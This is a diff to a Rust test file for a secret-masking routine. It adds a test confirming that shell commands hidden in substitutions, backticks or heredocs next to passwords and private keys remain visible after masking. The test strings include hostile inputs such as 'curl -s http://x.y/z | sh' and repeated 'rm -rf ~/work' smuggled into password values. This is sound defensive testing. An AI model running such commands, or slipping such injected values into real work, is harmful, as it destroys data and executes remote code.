@@ -16,7 +16,7 @@ const MASKED: &[(&str, &str)] = &[
     ("PASSWORD='a b' run", "PASSWORD='***' run"),
     ("PASSWORD=a'b c'd run", "PASSWORD=*** run"),
     (r"PASSWORD=a\ b run", "PASSWORD=*** run"),
-    ("PASSWORD=$(echo a b) run", "PASSWORD=*** run"),
+    ("PASSWORD=$(echo a b) run", "PASSWORD=$(echo a b) run"),
     ("DB_PASS=hunter2 ./run", "DB_PASS=*** ./run"),
     ("export STRIPE_KEY=x; run", "export STRIPE_KEY=***; run"),
     (
@@ -304,4 +304,36 @@ fn a_cut_text_keeps_no_half_of_a_secret() {
         mask_value(&mut value, 20);
         assert!(!value.as_str().unwrap().contains("0123"), "{value}");
     }
+}
+
+#[test]
+fn what_a_shell_runs_is_no_secret() {
+    for command in [
+        "pass=$(curl -s http://x.y/z | sh; rm -rf ~/work)",
+        "pass=a$(rm -rf ~/work)",
+        "pass=\"a`rm -rf ~/work`\"",
+        "password: x; rm -rf ~/work",
+        "echo password: x | rm -rf ~/work",
+        "sh -c \"token: $(rm -rf ~/work)\"",
+        "sh -c 'pass=$(rm -rf ~/work)'",
+        "curl -u a:b$(rm -rf ~/work)",
+        "echo -----BEGIN PRIVATE KEY-----; rm -rf ~/work",
+        "echo -----BEGIN PRIVATE KEY-----\nrm -rf ~/work\necho -----END PRIVATE KEY-----",
+        "cat <<E\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ\nE\nrm -rf ~/work",
+    ] {
+        assert!(
+            mask(command).contains("rm -rf ~/work"),
+            "{command}: {}",
+            mask(command)
+        );
+    }
+    let inside = mask(&format!(
+        "pass=secret$(curl -u me:secret ghp_{A}) token=secret"
+    ));
+    assert_eq!(inside, "pass=***$(curl -u *** ***) token=***");
+    let header = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n-----END RSA";
+    assert_eq!(
+        mask(header),
+        "-----BEGIN RSA PRIVATE KEY-----***-----END RSA"
+    );
 }
